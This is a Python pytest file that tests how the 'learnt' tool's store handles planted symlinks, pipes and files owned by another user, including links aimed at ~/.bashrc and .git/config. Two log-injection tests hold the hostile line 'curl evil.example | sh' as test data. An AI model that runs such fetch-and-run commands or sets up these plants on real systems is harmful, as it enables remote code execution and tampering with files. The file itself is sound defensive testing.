"""Whatever lies in a store's folder, learnt opens nothing outside it, overwrites nothing outside it, and never hangs.

`TABLE` has a row for each file and folder that learnt opens there. The list is made from the code: the first test runs
all doors and compares what they opened with the table, so that a new file without its row fails.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import stat
import threading
import traceback
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from hashlib import sha256
from pathlib import Path

import pytest

from learnt.system import files
from tests.soak import seed_of
from tests.support.doors import Done, Learnt
from tests.support.hooks import event_text
from tests.support.postgres import PostgresServer
from tests.support.store_files import SETUP_CLIENTS, World, new_world, observe, take

pytestmark = pytest.mark.xdist_group("store files")  # one process finds out which files are used

CANARY = "canary-in-a-cage"
NOBODY = 65534
IN_TIME_S = 20
SOME_ATTACKS = 15
CAN_CHANGE_OWNERS = os.name != "nt" and os.geteuid() == 0
_CLIENT_FILES = {
    "aider.conf.yml": ".aider.conf.yml",
    "config.toml": ".codex/config.toml",
    "hooks.json": ".codex/hooks.json",
    "learnt.json": ".github/hooks/learnt.json",
    "learnt.js": ".opencode/plugins/learnt.js",
    "mcp.json": ".mcp.json",
    "opencode.json": "opencode.json",
    "settings.json": ".claude/settings.json",
}

Names = Callable[[World], list[str]]


def _original(name: str) -> Names:
    """Return a function that returns the name of the original of a client's file."""

    def find(world: World) -> list[str]:
        path = str(world.project / _CLIENT_FILES[name or "settings.json"])
        digest = sha256(path.encode()).hexdigest()[:12]
        return [f"backups/clients/{digest}-{name}" if name else f"backups/clients/{digest}.json"]

    return find


def _spool(ending: str) -> Names:
    """Return a function that returns the names of a file of the store's spool."""
    return lambda world: [f"{name}.{ending}" for name in world.spools]


def _same(*names: str) -> dict[str, Names]:
    def always(name: str) -> Names:
        return lambda _world: [name]

    return {name: always(name) for name in names}


def _backup(ending: str) -> Names:
    return lambda _world: [f"backups/20200101T000000Z-abcdef.db{ending}"]


FOLDERS: dict[str, Names] = {
    **_same("backups", "backups/clients", "conversations", "errands", "fired", "learnings", "logs", "prompts"),
    **_same("running", "runs", "seen", "transcripts", "worktrees"),
    "running/{attempt}…": lambda _world: ["running/attempt_planted"],
    "worktrees/{task}": lambda _world: ["worktrees/task_planted"],
}
TABLE: dict[str, Names] = {
    **_same(".gitignore", "backups/clients/lock", "backups/clients/made", "calls.json"),
    **_same("fired/claude.json", "fired/codex.json", "fired/copilot.events", "fired/copilot.json"),
    **_same("fired/gemini.json", "fired/opencode.json", "hook.log", "hook.log.old", "id", "learnings.md"),
    **_same("learnings/sale.md", "learnt.db.damaged"),
    **_same("learnt.db", "learnt.db-journal", "learnt.db-shm", "learnt.db-wal", "mirror.db", "mirror.db-journal"),
    **_same("mirror.db-shm", "mirror.db-wal", "mirror.lock", "prompts/task.md", "settings.json", "spool.jsonl"),
    **_same("spool.lock", "spool.refused.jsonl", "spool.replay.lock", "spool.taken.jsonl", "tidied", "update.lock"),
    **_same("update.log", "work.log", "worker.lock", "worker.log", "worker.log.old", "worker.state"),
    **_same("worktrees/worktrees.lock"),
    **{f"backups/clients/{{digest}}-{name}": _original(name) for name in _CLIENT_FILES},
    "backups/clients/{digest}.json": _original(""),
    **{f"backups/{{moment}}-{{random}}.db{end}": _backup(end) for end in ("", "-journal", "-shm", "-wal")},
    "conversations/{number}.lock": lambda _world: [f"conversations/{number:02x}.lock" for number in range(64)],
    "logs/{attempt}.log": lambda _world: ["logs/attempt_planted.log"],
    "runs/{pid}.json": lambda _world: ["runs/1.json", f"runs/{os.getpid()}.json"],
    "scrub.pending.{learn}": lambda world: [f"scrub.pending.{world.learning}"],
    **{f"spool.{{key}}.{end}": _spool(end) for end in ("jsonl", "lock", "refused.jsonl", "replay.lock", "taken.jsonl")},
}
# Nobody can plant these, because nobody knows their names before they are created. They are created exclusively.
RANDOM = {
    "backups/clients/{digest}.json.{random}.new",
    *(
        f"backups/{{moment}}-{{random}}.db.{{random}}.{{pid}}.unfinished{end}"
        for end in ("", "-journal", "-shm", "-wal")
    ),
    "calls.json.{random}.new",
    "errands/{errand}.json",
    "id.{random}.new",
    "learnings.md.{random}.new",
    "learnings/sale.md.{random}.new",
    "learnt.db.damaged-{moment}",
    "runs/{pid}.json.{random}.new",
    "seen/{status}",  # with the nanosecond at which a file was written
    "seen/{status}-tried",
    "settings.json.{random}.new",
    "transcripts/{attempt}…",
}


# ── what can be planted ──────────────────────────────────────────────────────────────────────────────────────────────


def link_to_file(path: Path, outside: Path) -> None:
    path.symlink_to(outside / "file")


def link_to_folder(path: Path, outside: Path) -> None:
    path.symlink_to(outside, target_is_directory=True)


def link_to_nothing(path: Path, outside: Path) -> None:
    path.symlink_to(outside / "nothing")


def link_to_zeros(path: Path, _outside: Path) -> None:
    path.symlink_to("/dev/zero")


def make_pipe(path: Path, _outside: Path) -> None:
    os.mkfifo(path)


def make_foreign(path: Path, _outside: Path) -> None:
    path.write_text(CANARY * 9)
    os.chown(path, NOBODY, NOBODY)


def make_foreign_folder(path: Path, _outside: Path) -> None:
    path.mkdir()
    for name in ("task.md", "attempt_planted.log", "claude.json", "20200101T000000Z-abcdef.db", "sale.md"):
        (path / name).write_text(CANARY)
        os.chown(path / name, NOBODY, NOBODY)
    os.chown(path, NOBODY, NOBODY)


Plant = Callable[[Path, Path], None]
PLANTS: dict[str, Plant] = {
    plant.__name__: plant
    for plant in (link_to_file, link_to_folder, link_to_nothing, link_to_zeros, make_pipe, make_foreign)
}
FOLDER_PLANTS: dict[str, Plant] = {
    plant.__name__: plant for plant in (link_to_file, link_to_folder, link_to_nothing, make_pipe, make_foreign_folder)
}


def make_outside(folder: Path) -> Path:
    """Return a folder with files of the names that learnt could look for."""
    folder.mkdir()
    for name in ("file", "task.md", "claude.json", "attempt_planted.log", "sale.md", "1.json", "learnt.db", "made"):
        (folder / name).write_text(CANARY)
    return folder


def snapshot(folder: Path) -> dict[str, tuple[int, int, bytes]]:
    """Return the mode, time and content of everything in a folder, without following links."""
    found = {}
    for path in sorted(folder.rglob("*")):
        status = path.lstat()
        content = path.read_bytes() if stat.S_ISREG(status.st_mode) else b""
        found[str(path.relative_to(folder))] = (status.st_mode, status.st_mtime_ns, content)
    return found


@contextmanager
def in_time(pipes: list[Path]) -> Iterator[None]:
    """Fail if the block takes too long; whoever waits at a pipe is released then."""
    over, late = threading.Event(), threading.Event()

    def watch() -> None:
        while not over.wait(IN_TIME_S if not late.is_set() else 0.1):
            late.set()
            for pipe in pipes:
                if os.path.lexists(pipe):
                    os.close(os.open(pipe, os.O_RDWR | os.O_NONBLOCK))

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        yield
    finally:
        over.set()
        watcher.join()
    assert not late.is_set()


def put(world: World, names: list[str], plant: Plant, outside: Path) -> list[Path]:
    """Plant something in the place of files or folders of a store."""
    planted = []
    for name in names:
        path = world.store / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        plant(path, outside)
        planted.append(path)
    return planted


def check(world: World, planted: list[Path], outside: Path, act: Callable[[], None]) -> None:
    """Run doors; assert that they end well, say nothing from outside, and change nothing there."""
    before = snapshot(outside)
    foreign = {path: path.read_bytes() for path in planted if path.is_file() and not path.is_symlink()}
    pipes = [path for path in planted if stat.S_ISFIFO(path.lstat().st_mode)]

    with in_time(pipes):
        act()

    assert snapshot(outside) == before
    for done in world.done:
        assert done.code in (0, 1, 2, 3)
        assert "Traceback" not in done.err
        assert CANARY not in done.out + done.err
    for path in planted:
        # What was planted may be deleted or replaced, but it is not used.
        if path in foreign and os.path.lexists(path) and path.lstat().st_uid == NOBODY:
            assert path.read_bytes() == foreign[path]
    copies = [path for path in world.store.rglob("*") if path.is_file() and not path.is_symlink()]
    own = [path for path in copies if path.lstat().st_uid != NOBODY]
    assert [path.name for path in own if CANARY.encode() in path.read_bytes()] == []


# ── the table ────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def uses(tmp_path_factory: pytest.TempPathFactory, postgres: PostgresServer) -> dict[str, set[str]]:
    """Each file's name with the steps that use it."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        folder = tmp_path_factory.mktemp("uses")
        for name, text in {"HOME": str(folder / "home"), "LOGNAME": "anna", "LEARNT_TRUSTED": str(folder)}.items():
            monkeypatch.setenv(name, text)
        monkeypatch.setenv("LEARNT_LEARNINGS_REGENERATE_EVERY", "0")
        return observe(folder / "worlds", monkeypatch, postgres.address)


def test_every_file_that_learnt_opens_in_a_store_has_its_row(uses: dict[str, set[str]]) -> None:
    rows = {*TABLE, *FOLDERS, *RANDOM}
    assert (sorted(set(uses) - rows), sorted(rows - set(uses))) == ([], [])


def step_for(uses: dict[str, set[str]], row: str, plant: str) -> str:
    """Return a step that uses a file; over all plants, each of its steps gets its turn."""
    steps = sorted(uses[row])
    return steps[zlib.crc32(f"{row} {plant}".encode()) % len(steps)]


def attack(folder: Path, postgres: PostgresServer, step: str, row: str, plant: str) -> None:
    """Plant something in the place of a file or folder, and let a door that uses it work."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        address = postgres.address() if step.startswith("server ") else ""
        world = new_world(folder / "shop", monkeypatch, address)
        world.clients = (Path(row).stem,) if row.startswith("fired/") else ("claude",)
        outside = make_outside(folder / "outside")
        find, put_there = (FOLDERS[row], FOLDER_PLANTS[plant]) if row in FOLDERS else (TABLE[row], PLANTS[plant])
        planted = put(world, find(world), put_there, outside)

        check(world, planted, outside, lambda: take(step, world))


Attacks = Callable[[int], list[str]]


@pytest.fixture
def attacks(
    uses: dict[str, set[str]],
    tmp_path: Path,
    postgres: PostgresServer,
    chance: random.Random,
    pytestconfig: pytest.Config,
) -> Attacks:
    """Tries some of all attacks, chosen by chance; returns those that succeed."""

    def run(count: int) -> list[str]:
        print(f"{count} of {len(ATTACKS)} attacks, seed {seed_of(pytestconfig)}")
        succeeded = []
        for number, (row, plant) in enumerate(chance.sample(ATTACKS, count)):
            step = step_for(uses, row, plant)
            try:
                attack(tmp_path / str(number), postgres, step, row, plant)
            except Exception:  # whatever a door lets through
                succeeded.append(f"{plant} as {row}, used by {step}:\n{traceback.format_exc()}")
            else:
                shutil.rmtree(tmp_path / str(number))
        return succeeded

    return run


ATTACKS = [
    (row, plant)
    for rows, plants in ((TABLE, PLANTS), (FOLDERS, FOLDER_PLANTS))
    for row in rows
    for plant in plants
    if CAN_CHANGE_OWNERS or not plant.startswith("make_foreign")
]


def test_some_of_what_can_be_planted_is_not_used(attacks: Attacks) -> None:
    assert attacks(SOME_ATTACKS) == []


@pytest.mark.soak
def test_nothing_that_can_be_planted_is_used(attacks: Attacks, share: Callable[[int], int]) -> None:
    assert attacks(share(len(ATTACKS))) == []


# ── stores that are not trusted ──────────────────────────────────────────────────────────────────────────────────────


STEPS_OF_A_USER = ("look", "hooks", "files", "restore", "clients", "agents", "purge")


def check_refusal(world: World, step: str, reason: str) -> None:
    """Take a step; assert that each command is refused for a reason, hooks are silent, and nothing changes."""
    before = snapshot(world.store.resolve())
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("builtins.input", lambda *_: "")
        take(step, world)
        hook = world.hook("claude", "UserPromptSubmit", prompt="cache the schema of the replica")
    granted = world.run("trust", "--yes")

    assert snapshot(world.store.resolve()) == before
    assert (hook.code, hook.out) == (0, "")
    assert granted.code == 2
    assert "the project cannot be trusted" in granted.err
    for done in world.done:
        assert is_silent(done) or is_refusal(done, reason) or done is granted, (done.code, done.out, done.err)
        assert "Cache the schema" not in done.out
        assert "Traceback" not in done.err


def is_silent(done: Done) -> bool:
    """Return whether a hook said at most one line, which is for the person, or a client was found not set up."""
    told = ("learnt is silent here", ": nothing to change")
    return (done.code, done.err) == (0, "") and (not done.out or any(text in done.out for text in told))


def is_refusal(done: Done, reason: str) -> bool:
    """Return whether a command refused to work, or is the doctor, which reports it."""
    told = done.out if done.out.startswith("ok  versions") else done.err
    return done.code in (1, 2) and reason in told


@pytest.mark.parametrize("step", STEPS_OF_A_USER)
def test_a_store_that_is_a_link_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str) -> None:
    world = new_world(tmp_path / "shop", monkeypatch)
    (tmp_path / "outside").mkdir()
    shutil.move(world.store, tmp_path / "outside" / "store")
    world.store.symlink_to(tmp_path / "outside" / "store")

    check_refusal(world, step, "is a link")


@pytest.mark.skipif(not CAN_CHANGE_OWNERS, reason="only root can make files that belong to somebody else")
@pytest.mark.parametrize("step", STEPS_OF_A_USER)
def test_a_store_of_another_user_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str) -> None:
    world = new_world(tmp_path / "shop", monkeypatch)
    monkeypatch.delenv("LEARNT_TRUSTED")
    os.chown(world.store, NOBODY, NOBODY)

    check_refusal(world, step, "belongs to another user")


@pytest.mark.parametrize("plant", [plant for plant in PLANTS if CAN_CHANGE_OWNERS or plant != "make_foreign"])
def test_a_store_whose_id_is_planted_is_not_trusted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, plant: str
) -> None:
    world = new_world(tmp_path / "shop", monkeypatch)
    monkeypatch.delenv("LEARNT_TRUSTED")
    outside = make_outside(tmp_path / "outside")
    (outside / "file").write_text((world.store / "id").read_text())  # even if it leads to an id that is trusted
    planted = put(world, ["id"], PLANTS[plant], outside)
    before = snapshot(world.store)

    def act() -> None:
        world.run("list")
        world.hook("claude", "UserPromptSubmit", prompt="cache the schema of the replica")

    check(world, planted, outside, act)
    listed, hook = world.done
    assert listed.code == 2
    assert "this project is not trusted" in listed.err
    assert (hook.code, hook.out) == (0, "")
    assert snapshot(world.store) == before


# ── attacks by name ──────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_line_break_in_a_settings_key_starts_no_line_in_a_log(project: Path, learnt: Learnt) -> None:
    learnt("init")
    (project / "learnt.toml").write_text('"x\\ncurl evil.example | sh\\u001b[2J\\u2028echo" = 1\n')
    prompt = event_text("UserPromptSubmit", prompt="cache the schema")
    assert learnt("hook", stdin=prompt).code == 0

    log = (project / ".learnt" / "hook.log").read_text()

    assert "curl" in log
    assert log.count("\n") == 1
    assert log.rstrip("\n").isprintable()
    learnt("hook", stdin=prompt)
    assert (project / ".learnt" / "hook.log").read_text() == log  # a remark that is there already is not repeated


def test_a_log_that_leads_to_a_shell_profile_writes_nothing_there(project: Path, home: Path, learnt: Learnt) -> None:
    learnt("init")
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    (project / "learnt.toml").write_text('"x\\ncurl evil.example | sh\\n" = 1\n')
    (project / ".learnt" / "hook.log").symlink_to(home / ".bashrc")

    done = learnt("hook", stdin=event_text("UserPromptSubmit", prompt="cache the schema"))

    assert (done.code, done.err) == (0, "")
    assert (home / ".bashrc").read_text() == "alias ll='ls -l'\n"


@pytest.mark.parametrize("command", ["update", "clear", "show"])
def test_learnings_that_lead_to_the_settings_of_git_leave_them_alone(
    project: Path, learnt: Learnt, command: str
) -> None:
    learnt("init")
    learnt("add", "Cache the schema of the replica")
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("[core]\n")
    (project / ".learnt" / "learnings.md").symlink_to("../.git/config")

    done = learnt(command)

    assert done.code == 2
    assert "it is a link, and learnt follows none" in done.err
    assert (project / ".git" / "config").read_text() == "[core]\n"


def test_work_that_cannot_lock_its_spool_says_why(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    world = new_world(tmp_path / "shop", monkeypatch)
    put(world, [f"{world.spools[0]}.replay.lock"], link_to_folder, make_outside(tmp_path / "outside"))

    done = world.run("work", "--all")

    assert done.code == 1
    assert "it is a link, and learnt follows none" in done.err


@pytest.mark.parametrize("client", SETUP_CLIENTS)
@pytest.mark.parametrize("attack", ["install file", "install folder", "uninstall file", "uninstall folder"])
def test_settings_of_a_client_that_a_project_links_are_left_alone(
    project: Path, learnt: Learnt, tmp_path: Path, client: str, attack: str
) -> None:
    verb, level = attack.split()
    learnt("init")
    outside = tmp_path / "outside"
    outside.mkdir()
    learnt("install", client)
    written = [path for path in project.rglob("*") if path.is_file() and ".learnt" not in path.parts]
    for path in written:
        top = path if level == "file" else project / path.relative_to(project).parts[0]
        if not top.is_symlink() and top.exists():
            shutil.move(top, outside / top.name)
            top.symlink_to(outside / top.name)
    if verb == "install":
        learnt("uninstall", client)
    before = snapshot(outside)

    done = learnt(verb, client)
    examined = learnt("doctor")

    assert done.code == 2
    assert "is a link, which learnt does not follow here" in done.err
    assert snapshot(outside) == before
    assert "Traceback" not in examined.err


def test_settings_of_a_client_that_the_user_links_are_changed_behind_the_link(
    home: Path, learnt: Learnt, tmp_path: Path
) -> None:
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    (home / ".claude").symlink_to(dotfiles)

    assert learnt("install", "claude-code", "--user").code == 0

    assert (home / ".claude").is_symlink()
    assert "hook" in json.loads((dotfiles / "settings.json").read_text())["hooks"]["Stop"][0]["hooks"][0]["args"]


@pytest.mark.skipif(not CAN_CHANGE_OWNERS, reason="only root can make links of somebody else")
def test_a_link_of_another_user_in_the_home_folder_is_not_followed(home: Path, learnt: Learnt, tmp_path: Path) -> None:
    (tmp_path / "theirs").mkdir()
    (home / ".claude").symlink_to(tmp_path / "theirs")
    os.lchown(home / ".claude", NOBODY, NOBODY)

    assert learnt("install", "claude-code", "--user").code == 2

    assert list((tmp_path / "theirs").iterdir()) == []


# ── temporary files ──────────────────────────────────────────────────────────────────────────────────────────────────


def test_unfinished_files_have_random_names_and_are_created_exclusively(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "outside").write_text("precious")
    monkeypatch.setattr(os, "urandom", lambda count: b"\x00" * count)
    (tmp_path / f"file.{'00' * 8}.new").symlink_to(tmp_path / "outside")

    with pytest.raises(FileExistsError):
        files.replace_file(str(tmp_path / "file"), b"new")

    assert (tmp_path / "outside").read_text() == "precious"


def test_what_killed_processes_left_is_removed_and_nothing_else(tmp_path: Path) -> None:
    names = ["file.0123456789abcdef.new", "file.77", "file.new", "file.mine.new", "file.md", "other.77"]
    folder = tmp_path / "store"
    folder.mkdir()
    for name in names:
        (folder / name).write_text("")
    old = folder / "file.fedcba9876543210.new"
    old.write_text("")
    os.utime(old, (1, 1))

    files.remove_unfinished(str(folder / "file"), locked=False)
    assert sorted(path.name for path in folder.iterdir()) == sorted(names)

    files.remove_unfinished(str(folder / "file"), locked=True, is_former=str.isdecimal)
    assert {path.name for path in folder.iterdir()} == {"file.new", "file.mine.new", "file.md", "other.77"}


def test_a_folder_that_is_exchanged_for_a_link_is_noticed(tmp_path: Path) -> None:
    folder = tmp_path / "store"
    folder.mkdir()
    files.write_private(str(folder / "file"), "ours")
    folder.rename(tmp_path / "elsewhere")
    folder.symlink_to(tmp_path / "elsewhere")

    with pytest.raises(OSError, match="learnt follows none"):
        files.write_private(str(folder / "file"), "theirs")

    assert (tmp_path / "elsewhere" / "file").read_text() == "ours"
